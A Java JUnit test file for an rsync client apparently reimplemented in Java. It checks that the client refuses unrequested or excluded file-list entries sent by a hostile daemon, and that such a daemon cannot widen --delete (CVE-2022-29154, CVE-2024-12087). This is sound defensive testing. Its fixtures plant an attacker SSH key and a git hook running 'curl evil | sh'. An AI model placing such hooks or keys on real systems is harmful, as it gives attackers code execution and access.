package dev.jrsync.client;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.jrsync.core.ExitCode;
import dev.jrsync.core.RsyncException;
import dev.jrsync.core.SessionLog;
import dev.jrsync.flist.FileEntry;
import dev.jrsync.options.OptionParser;
import dev.jrsync.options.Options;
import dev.jrsync.session.LocalDest;
import dev.jrsync.testing.ProcessResult;
import dev.jrsync.testing.StockClient;
import dev.jrsync.testing.StockRsync;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * A malicious daemon ({@link HostileDaemon}) adds names to the file list that the client never asked for, or
 * that its own rules exclude (CVE-2022-29154's class). The client refuses the list as rsync 3.2.5+ does, with
 * rsync's message and exit code 4, before it writes anything; {@code --trust-sender} lets the same list through.
 */
@Timeout(value = 60, unit = TimeUnit.SECONDS)
class HostileSenderTest {
    private static final String KEY = "ssh-ed25519 AAAA attacker\n";
    private static final String HOOK = "#!/bin/sh\ncurl evil | sh\n";

    @TempDir
    Path tmp;

    private Path served() throws IOException {
        Path served = Files.createDirectories(tmp.resolve("served"));
        Files.writeString(served.resolve("only.txt"), "what was asked for\n");
        Files.createDirectories(served.resolve(".ssh"));
        Files.writeString(served.resolve(".ssh/authorized_keys"), KEY);
        Files.createDirectories(served.resolve(".git/hooks"));
        Files.writeString(served.resolve(".git/hooks/post-checkout"), HOOK);
        return served;
    }

    private TransferResult pull(String url, Path dst, String... opts) {
        List<String> argv = new ArrayList<>(Arrays.asList(opts));
        argv.add(url);
        argv.add(dst + "/");
        Options o = OptionParser.parse(argv);
        return Pull.run(o, DaemonAddress.parse(url, DaemonAddress.DEFAULT_PORT), LocalDest.of(dst), Filters.from(o),
                SessionLog.of(System.out, System.out), Credentials.NONE);
    }

    @Test
    void aFileAddedBesideTheOneAskedForIsRejectedAsUnrequested() throws IOException {
        Path dst = Files.createDirectories(tmp.resolve("dst"));
        try (HostileDaemon evil = HostileDaemon.planting(served(), "only.txt", ".ssh")) {
            RsyncException e = assertThrows(RsyncException.class, () -> pull(evil.url("mod/only.txt"), dst, "-a"));
            assertEquals(4, e.exitCode(), e.getMessage());
            assertEquals("ERROR: rejecting unrequested file-list name: .ssh", e.getMessage());
            assertEquals(List.of(), listTree(dst), "nothing may be written");
        }
    }

    @ParameterizedTest
    @CsvSource({".git, .git", "post-checkout, .git/hooks/post-checkout", "/.git/hooks/, .git/hooks"})
    void aNameTheClientExcludesIsRejectedAsExcluded(String exclude, String rejected) throws IOException {
        Path dst = Files.createDirectories(tmp.resolve("dst"));
        try (HostileDaemon evil = HostileDaemon.planting(served(), "")) {
            RsyncException e = assertThrows(RsyncException.class,
                    () -> pull(evil.url("mod/"), dst, "-a", "--exclude=" + exclude));
            assertEquals(4, e.exitCode(), e.getMessage());
            assertEquals("ERROR: rejecting excluded file-list name: " + rejected, e.getMessage());
            assertEquals(List.of(), listTree(dst), "nothing may be written");
        }
    }

    /** The stock client, pulling from the same hostile daemon, refuses the same names with the same words. */
    @ParameterizedTest
    @MethodSource("dev.jrsync.testing.StockRsync#peers")
    void stockRsyncRefusesTheSameNamesWithTheSameMessage(StockRsync rsync) throws IOException {
        Path served = served();
        for (String[] c : new String[][] {{"mod/only.txt", "", "only.txt", ".ssh"}, {"mod/", "--exclude=.git", ""}}) {
            String[] planted = Arrays.copyOfRange(c, 2, c.length);
            try (HostileDaemon evil = HostileDaemon.planting(served, planted)) {
                Path theirs = Files.createDirectories(tmp.resolve("theirs"));
                List<String> args = new ArrayList<>(List.of("-a", evil.url(c[0]), theirs + "/"));
                if (!c[1].isEmpty()) {
                    args.addFirst(c[1]);
                }
                ProcessResult stock = StockClient.of(rsync).run(args);
                assertEquals(4, stock.exitCode(), stock::transcript);
                Path ours = Files.createDirectories(tmp.resolve("ours"));
                RsyncException e = assertThrows(RsyncException.class,
                        () -> pull(evil.url(c[0]), ours, args.subList(0, args.size() - 2).toArray(String[]::new)));
                assertTrue(stock.stderr().lines().anyMatch(e.getMessage()::equals), () -> e.getMessage() + "\n"
                        + stock.transcript());
                assertEquals(listTree(theirs), listTree(ours));
            }
        }
    }

    @Test
    void trustSenderLetsTheSameListsThrough() throws IOException {
        Path dst = Files.createDirectories(tmp.resolve("dst"));
        try (HostileDaemon evil = HostileDaemon.planting(served(), "only.txt", ".ssh")) {
            TransferResult r = pull(evil.url("mod/only.txt"), dst, "-a", "--trust-sender");
            assertEquals(0, r.ioError());
            assertEquals(KEY, Files.readString(dst.resolve(".ssh/authorized_keys")));
            assertEquals("what was asked for\n", Files.readString(dst.resolve("only.txt")));
        }
        Path dst2 = Files.createDirectories(tmp.resolve("dst2"));
        try (HostileDaemon evil = HostileDaemon.planting(tmp.resolve("served"), "")) {
            TransferResult r = pull(evil.url("mod/"), dst2, "-a", "--exclude=.git", "--trust-sender");
            assertEquals(0, r.ioError());
            assertEquals(HOOK, Files.readString(dst2.resolve(".git/hooks/post-checkout")));
        }
    }

    @Test
    void aPerDirectoryMergeRuleLeavesTheFilteringToTheSender() throws IOException {
        // rsync's trust_sender_filter: only the sender reads the .rsync-filter files, so the client cannot
        // tell an excluded name from a wanted one; the unrequested check still applies.
        Path dst = Files.createDirectories(tmp.resolve("dst"));
        try (HostileDaemon evil = HostileDaemon.planting(served(), "")) {
            TransferResult r = pull(evil.url("mod/"), dst, "-a", "-F", "--exclude=.git");
            assertEquals(0, r.ioError());
            assertTrue(Files.exists(dst.resolve(".git/hooks/post-checkout")));
        }
        Path dst2 = Files.createDirectories(tmp.resolve("dst2"));
        try (HostileDaemon evil = HostileDaemon.planting(tmp.resolve("served"), "only.txt", ".ssh")) {
            RsyncException e = assertThrows(RsyncException.class,
                    () -> pull(evil.url("mod/only.txt"), dst2, "-a", "-F"));
            assertEquals("ERROR: rejecting unrequested file-list name: .ssh", e.getMessage());
            assertFalse(Files.exists(dst2.resolve(".ssh")));
        }
    }

    /**
     * Asked for one file, a hostile sender also sends the root "." flagged as a directory whose contents are
     * part of the transfer, so that {@code --delete} would empty the destination. rsync 3.5.0 makes such a
     * "." the bare parent it is; with {@code --trust-sender} it is taken at its word.
     */
    @ParameterizedTest
    @ValueSource(ints = {29, 30, 31, 32})
    void aRootFlaggedAsContentCannotWidenDelete(int protocol) throws IOException {
        Path served = Files.createDirectories(tmp.resolve("served-one"));
        Files.writeString(served.resolve("only.txt"), "what was asked for\n");
        Path dst = Files.createDirectories(tmp.resolve("dst"));
        Files.writeString(dst.resolve("keep.txt"), "the user's own file\n");
        try (HostileDaemon evil = HostileDaemon.planting(served, "")) {
            TransferResult r = pull(evil.url("mod/only.txt"), dst, "-a", "--delete", "--protocol=" + protocol);
            assertEquals(0, r.ioError());
            assertEquals(0, r.stats().deletedFiles);
            assertEquals(List.of("keep.txt", "only.txt"), listTree(dst));

            pull(evil.url("mod/only.txt"), dst, "-a", "--delete", "--protocol=" + protocol, "--trust-sender");
            assertEquals(List.of("only.txt"), listTree(dst), "the hostile root really is a content directory");
        }
    }

    /**
     * rsync's suite, malicious-sender-delete-scope: asked with {@code -R} for "dir/file", a hostile sender sends
     * the implied parent "dir" flagged as a directory with contents, so that {@code --delete} would sweep the
     * destination's "dir". rsync 3.5.0 makes a directory the client asked for only as a parent the bare parent it
     * is; the file asked for still arrives.
     */
    @ParameterizedTest
    @ValueSource(ints = {29, 30, 32})
    void anImpliedParentFlaggedAsContentCannotWidenDelete(int protocol) throws IOException {
        Path served = Files.createDirectories(tmp.resolve("served-rel/dir"));
        Files.writeString(served.resolve("file"), "from server\n");
        Path dst = Files.createDirectories(tmp.resolve("dst"));
        Files.createDirectories(dst.resolve("dir"));
        Files.writeString(dst.resolve("dir/keep.txt"), "MUST_STAY\n");
        try (HostileDaemon evil = HostileDaemon.planting(served.getParent(), "")) {
            TransferResult r = pull(evil.url("mod/dir/file"), dst, "-rR", "--delete", "--protocol=" + protocol);
            assertEquals(0, r.stats().deletedFiles);
            assertEquals(List.of("dir", "dir/file", "dir/keep.txt"), listTree(dst));

            pull(evil.url("mod/dir/file"), dst, "-rR", "--delete", "--protocol=" + protocol, "--trust-sender");
            assertEquals(List.of("dir", "dir/file"), listTree(dst), "the hostile parent really is a content directory");
        }
    }

    private static List<String> listTree(Path dir) throws IOException {
        try (Stream<Path> s = Files.walk(dir)) {
            return s.filter(p -> !p.equals(dir)).map(p -> dir.relativize(p).toString()).sorted().toList();
        }
    }

    // ---- incremental recursion: the sub-lists that arrive during the transfer get the same checks ----

    private static FileEntry dir(String name) {
        return FileEntry.builder(name, 040755).mtime(1_600_000_000, 0).build();
    }

    private static FileEntry file(String name) {
        return FileEntry.builder(name, 0100644).size(5).mtime(1_600_000_000, 0).build();
    }

    private RsyncException pullRefused(List<FileEntry> top, List<Map.Entry<Integer, List<FileEntry>>> subLists,
                                       String... opts) throws IOException {
        Path dst = tmp.resolve("dst");
        try (HostileDaemon evil = HostileDaemon.plantingIncrementally(top, subLists)) {
            List<String> argv = new ArrayList<>(Arrays.asList(opts));
            argv.add("-a");
            return assertThrows(RsyncException.class, () -> pull(evil.url("mod/"), dst, argv.toArray(String[]::new)));
        }
    }

    /** "d"'s list may only hold names directly in "d" (rsync: "ABORTING due to invalid path from sender"). */
    @Test
    void aSubListNameOutsideItsDirectoryIsRefused() throws IOException {
        RsyncException e = pullRefused(List.of(dir("."), dir("d"), dir("e")),
                List.of(Map.entry(1, List.of(file("e/planted")))));
        assertEquals(ExitCode.UNSUPPORTED, e.exitCode());
        assertTrue(e.getMessage().contains("invalid path from sender"), e.getMessage());
        assertFalse(Files.exists(tmp.resolve("dst/e/planted")));
    }

    /** A sub-list may be announced only for a listed directory, and only once (CVE-2024-12087). */
    @Test
    void aSubListForNoDirectoryOrTwiceIsAProtocolError() throws IOException {
        RsyncException beyond = pullRefused(List.of(dir("."), dir("d"), file("f")),
                List.of(Map.entry(2, List.of(file("f/x")))));
        assertEquals(ExitCode.PROTOCOL_INCOMPATIBLE, beyond.exitCode());
        assertTrue(beyond.getMessage().contains("Invalid dir index"), beyond.getMessage());
        RsyncException twice = pullRefused(List.of(dir("."), dir("d")),
                List.of(Map.entry(1, List.of(file("d/a"))), Map.entry(1, List.of(file("d/b")))));
        assertEquals(ExitCode.PROTOCOL_INCOMPATIBLE, twice.exitCode());
        assertTrue(twice.getMessage().contains("duplicate flist"), twice.getMessage());
    }

    /** The client's own excludes apply to every sub-list, as to the top list (CVE-2022-29154). */
    @Test
    void anExcludedNameInASubListIsRejected() throws IOException {
        RsyncException e = pullRefused(List.of(dir("."), dir("sub")),
                List.of(Map.entry(1, List.of(dir("sub/.git"), file("sub/ok")))), "--exclude=.git");
        assertEquals(ExitCode.UNSUPPORTED, e.exitCode());
        assertTrue(e.getMessage().contains("rejecting excluded file-list name: sub/.git"), e.getMessage());
        assertFalse(Files.exists(tmp.resolve("dst/sub/.git")));
    }
}
